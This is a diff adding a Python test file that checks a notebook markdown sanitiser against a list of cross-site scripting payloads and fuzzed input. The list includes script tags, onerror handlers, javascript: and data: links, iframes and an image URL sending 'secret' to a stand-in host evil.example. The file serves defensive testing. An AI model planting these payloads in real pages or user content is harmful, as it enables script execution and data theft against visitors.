@@ -1,0 +1,112 @@
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from jupyter_tools.notebook.sanitise import inert_markdown, markdown_html, text_html
+
+ATTACKS = [
+    "<script>window.hacked = 1</script>",
+    '<img src=x onerror="window.hacked = 1">',
+    "<svg/onload=alert(1)>",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](java&#10;script:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](vbscript:x)",
+    "[click][x]\n\n[x]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "![x][y]\n\n[y]: https://evil.example/a.png",
+    "![x](javascript:alert(1))",
+    "<style>body { display: none }</style>",
+    "<iframe src='https://evil.example'></iframe>",
+    "\\`<script>alert(1)</script>`",
+    "`` ` <b>` <img src=x onerror=alert(1)>",
+    "```\n<script>alert(1)</script>\n```\n<script>alert(2)</script>",
+    "    indented <script>\n\n<a href='javascript:alert(1)'>x</a>",
+    "a | b\n--|--\n<img src=x onerror=alert(1)> | [x](javascript:alert(1))",
+    "<!-- --> <script>alert(1)</script>",
+    "[a](<javascript:alert(1)>)",
+    '```html"onmouseover=alert(1)\nx\n```',
+]
+TAG = re.compile(r"<\s*([a-zA-Z/!?][^>]*)")
+HARMLESS = re.compile(
+    r'/?(p|br|hr|h[1-6]|blockquote|ul|ol( start="\d+")?|li|strong|em|s|code( class="language-[\w+#.-]+")?|pre'
+    r'|a( (title|rel|target|href)="[^"]*")*|table|thead|tbody|tr|th|td)/?'
+)
+text = st.text(alphabet=st.sampled_from("<>[]()!`~&#;:\"'/\\ \n\tabjsx=*_|-"))
+
+
+def assert_harmless(html: str) -> None:
+    for tag in TAG.findall(html):
+        assert HARMLESS.fullmatch(tag), tag
+    for address in re.findall(r'href="([^"]*)"', html):
+        assert address.startswith(("http://", "https://", "mailto:")), address
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_html_made_of_an_attack_holds_only_harmless_tags(attack: str):
+    assert_harmless(markdown_html(attack))
+
+
+@given(st.lists(st.one_of(text, st.sampled_from(ATTACKS))).map("".join))
+def test_html_made_of_any_text_holds_only_harmless_tags(markdown: str):
+    assert_harmless(markdown_html(markdown))
+
+
+def test_markdown_keeps_its_looks():
+    html = markdown_html("# Title\n\n**b** ~~s~~ [x](https://e.org)\n\n| a |\n|---|\n| 1 |\n\n```python\nx < 1\n```")
+    for piece in (
+        "<h1>Title</h1>",
+        "<strong>b</strong>",
+        "<s>s</s>",
+        "<td>1</td>",
+        'class="language-python"',
+        "x &lt; 1",
+    ):
+        assert piece in html
+    assert 'href="https://e.org"' in html
+    assert 'rel="noopener noreferrer nofollow"' in html
+
+
+def test_a_picture_becomes_a_link_so_that_nothing_is_loaded():
+    html = markdown_html("![A cat](https://e.org/cat.png)")
+    assert "<img" not in html
+    assert ">image: A cat</a>" in html
+
+
+def test_plain_text_is_shown_literally():
+    assert text_html('<b>"x"&</b>') == "&lt;b&gt;&quot;x&quot;&amp;&lt;/b&gt;"
+
+
+def permissive_html(markdown: str) -> str:
+    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    renderer.validateLink = lambda _: True
+    return renderer.render(markdown)
+
+
+def assert_inert(markdown: str) -> None:
+    html = permissive_html(markdown)
+    assert not re.search(r"<(script|img|svg|style|iframe|javascript)", html, re.IGNORECASE), html
+    assert not re.search(r'href="(?!https?:|mailto:)[^":]*:', html), html
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_markdown_made_of_an_attack_does_nothing_in_a_renderer_that_allows_everything(attack: str):
+    assert_inert(inert_markdown(attack))
+
+
+@given(st.lists(st.one_of(text, st.sampled_from(ATTACKS))).map("".join))
+def test_markdown_made_of_any_text_does_nothing_in_a_renderer_that_allows_everything(markdown: str):
+    assert_inert(inert_markdown(markdown))
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    ["a **b** `<c>` [d](https://e.org)", "```html\n<b>x</b> ![y](z)\n```\nend", "1 < 2 and 3 > 2", "Привет, *мир*!"],
+)
+def test_harmless_markdown_is_kept_as_it_was_written(markdown: str):
+    assert inert_markdown(markdown) == markdown
